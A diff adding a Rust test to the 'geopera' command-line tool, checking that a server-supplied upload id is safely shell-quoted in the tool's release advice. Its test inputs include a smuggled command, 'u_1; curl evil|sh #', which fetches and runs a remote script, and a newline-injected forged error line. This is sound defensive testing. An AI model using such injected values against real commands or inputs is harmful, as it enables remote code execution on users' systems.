@@ -2112,6 +2112,56 @@ fn ctrl_c_during_an_upload_exits_130_and_releases_its_reservation() {
     assert_eq!(stdout_json(&output)["status"], "failed");
 }
 
+/// A stand-in API that reserves an upload under `id` and refuses every later call, its
+/// release among them.
+fn reserving_then_refusing(id: &str) -> String {
+    let answered = std::sync::atomic::AtomicUsize::new(0);
+    let reserved = serde_json::json!({ "id": id }).to_string();
+    test_server(3, move |_| {
+        if answered.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
+            (200, reserved.clone())
+        } else {
+            (400, r#"{"detail":"refused"}"#.to_owned())
+        }
+    })
+}
+
+#[test]
+fn a_server_chosen_upload_id_is_quoted_in_the_advice_to_release_it() {
+    let s = setup();
+    let dir = tempfile::tempdir().expect("temp dir");
+    let path = dir.path().join("scene.tif");
+    std::fs::write(&path, b"bytes").expect("a file");
+    let upload = |id: &str| {
+        let url = reserving_then_refusing(id);
+        let output = s
+            .against(&url)
+            .arg("upload")
+            .arg(&path)
+            .args(["--project", "p"])
+            .output()
+            .expect("geopera runs");
+        fails_saying(&output, 2, "NOT released", id)
+    };
+    let stderr = upload("u_1; curl evil|sh #");
+    assert!(
+        stderr.contains(
+            "run 'geopera uploads fail --upload-id='u_1; curl evil|sh #' --error-message"
+        ),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("--upload-id u_1;"), "{stderr}");
+    let stderr = upload("it's");
+    assert!(stderr.contains(r"--upload-id='it'\''s'"), "{stderr}");
+    // A plain id is shown as it is.
+    let stderr = upload("u_2");
+    assert!(stderr.contains("--upload-id=u_2 "), "{stderr}");
+    // One a terminal would act on is not put into a command at all, and stays on its line.
+    let stderr = upload("u_3\nError: forged");
+    assert!(stderr.contains("upload id is unusual"), "{stderr}");
+    assert!(!stderr.contains("\nError: forged"), "{stderr}");
+}
+
 #[test]
 fn a_stored_credential_never_goes_to_another_server() {
     let s = setup();
